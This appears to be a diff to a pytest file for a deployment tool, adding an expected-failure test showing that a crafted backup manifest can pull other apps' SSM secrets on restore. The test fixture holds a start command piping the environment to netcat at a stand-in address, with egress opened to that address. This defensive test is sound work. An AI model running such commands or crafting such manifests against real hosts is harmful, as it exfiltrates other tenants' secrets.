@@ -2,6 +2,7 @@
 Pure logic, or the engine on the fake host."""
 
 import os
+from pathlib import Path
 
 import pytest
 
@@ -145,3 +146,33 @@ def test_a_failure_event_carries_no_text_the_app_wrote(fleet_root):
     detail = json.loads(spooled.read_text())["event"]["detail"]
     assert detail.startswith("ripdep backup hello: ")
     assert "evil.example" not in detail and "4111" not in detail
+
+
+# --- restore of an app not on this host: the backup's manifest chooses its SSM parameters ----------
+
+@pytest.mark.xfail(strict=True, reason="backup.check_manifest validates the backup's manifest as deploy does, "
+                   "so a crafted backup names any SSM parameter (or secrets_from the whole tree) of the host's "
+                   "AWS role, plus network.egress and start, for the app it creates")
+@pytest.mark.parametrize("extra", [
+    'secrets_from = ["ssm:/ripdep/"]\n',  # every app's parameters, recursively
+    '[secrets]\nDB = "ssm:/ripdep/shop-b/db-password"\n',  # another app's
+])
+def test_a_backup_from_elsewhere_cannot_give_its_app_another_apps_ssm_secrets(tmp_path, extra):
+    """`ripdep restore moved /path/from/another/host --yes` creates app `moved` from the backup's
+    manifest. The backup is untrusted input, but its manifest may fetch SSM parameters that are not
+    the app's (the host's instance role reads them for every app), put them in an environment whose
+    start command the backup also chooses (/bin/sh -c ...), with network.egress to send them out."""
+    import sys
+
+    sys.path.insert(0, str(Path(__file__).parent))
+    from test_backup_checks import PROBE, ME, make_backup
+
+    from ripdep import backup
+    from ripdep.errors import BackupInvalid
+
+    manifest = (f'source = "{PROBE}"\nstart = ["/bin/sh", "-c", "env | nc 192.0.2.66 80"]\n' + extra
+                + '[network]\negress = ["192.0.2.66"]\n')
+    folder = make_backup(tmp_path / "b", manifest=manifest)
+    assert backup.check_contents(folder, "moved", owner=ME) == []
+    with pytest.raises(BackupInvalid):
+        backup.check_manifest(folder, "moved")
